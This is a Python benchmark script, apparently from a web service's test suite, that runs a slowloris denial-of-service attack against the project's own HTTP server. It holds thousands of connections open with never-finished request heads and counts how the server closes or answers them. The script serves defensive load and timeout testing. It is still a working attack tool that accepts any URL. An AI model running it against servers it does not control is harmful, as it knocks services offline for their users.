"""A slow-client attacker for measuring `aftersale serve` (bench/load_test.sh SLOWLORIS=N, and the
slow-client test): keeps N connections open that never finish their request, dripping one header
line every few seconds, and opens a new one whenever the server closes one.

    python bench/slowloris.py http://127.0.0.1:8080 --connections 3000 --seconds 30

Prints `SLOWLORIS held=<connections open at the end> opened=<total> closed_by_server=<n>
answered_408=<n>` when it stops (after --seconds, or on SIGTERM/SIGINT).
"""
from __future__ import annotations

import argparse
import asyncio
import resource
import signal
import time
from urllib.parse import urlsplit

HEAD = b"POST /v1/decide HTTP/1.1\r\nHost: victim\r\nContent-Type: application/json\r\n"


class Attack:
    def __init__(self, host: str, port: int, connections: int, drip: float) -> None:
        self.host, self.port, self.target, self.drip = host, port, connections, drip
        self.open = 0
        self.opened = 0
        self.closed_by_server = 0
        self.answered_408 = 0
        self.connect_errors = 0

    async def one(self, stop: asyncio.Event) -> None:
        while not stop.is_set():
            try:
                reader, writer = await asyncio.open_connection(self.host, self.port)
            except OSError:
                self.connect_errors += 1
                await asyncio.sleep(0.05)
                continue
            self.opened += 1
            self.open += 1
            try:
                writer.write(HEAD)
                while not stop.is_set():
                    try:
                        data = await asyncio.wait_for(reader.read(1024), self.drip)
                    except asyncio.TimeoutError:
                        writer.write(b"X-Slow: 1\r\n")  # never the blank line that ends the head
                        continue
                    if data.startswith(b"HTTP/1.1 408"):
                        self.answered_408 += 1
                    if not data or data.startswith(b"HTTP/"):
                        self.closed_by_server += 1
                        break
            except OSError:
                self.closed_by_server += 1
            finally:
                self.open -= 1
                writer.close()

    async def run(self, seconds: float) -> None:
        stop = asyncio.Event()
        loop = asyncio.get_running_loop()
        for sig in (signal.SIGTERM, signal.SIGINT):
            loop.add_signal_handler(sig, stop.set)
        loop.call_later(seconds, stop.set)
        tasks = []
        for _ in range(self.target):  # ramp up quickly but let the loop breathe
            tasks.append(asyncio.ensure_future(self.one(stop)))
            if len(tasks) % 200 == 0:
                await asyncio.sleep(0.01)
        started = time.monotonic()
        while not stop.is_set():
            await asyncio.sleep(1)
            print(f"slowloris t={time.monotonic() - started:.0f}s open={self.open} opened={self.opened} "
                  f"closed_by_server={self.closed_by_server}", flush=True)
        held = self.open
        for task in tasks:
            task.cancel()
        await asyncio.gather(*tasks, return_exceptions=True)
        print(f"SLOWLORIS held={held} opened={self.opened} closed_by_server={self.closed_by_server} "
              f"answered_408={self.answered_408} connect_errors={self.connect_errors}", flush=True)


def main() -> None:
    parser = argparse.ArgumentParser(description=__doc__.split("\n\n")[0])
    parser.add_argument("url")
    parser.add_argument("--connections", type=int, default=3000)
    parser.add_argument("--seconds", type=float, default=30.0)
    parser.add_argument("--drip", type=float, default=3.0, help="seconds between header lines")
    args = parser.parse_args()
    soft, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
    resource.setrlimit(resource.RLIMIT_NOFILE, (hard, hard))  # the attacker needs its own N descriptors
    parts = urlsplit(args.url)
    attack = Attack(parts.hostname or "127.0.0.1", parts.port or 80, args.connections, args.drip)
    asyncio.run(attack.run(args.seconds))


if __name__ == "__main__":
    main()
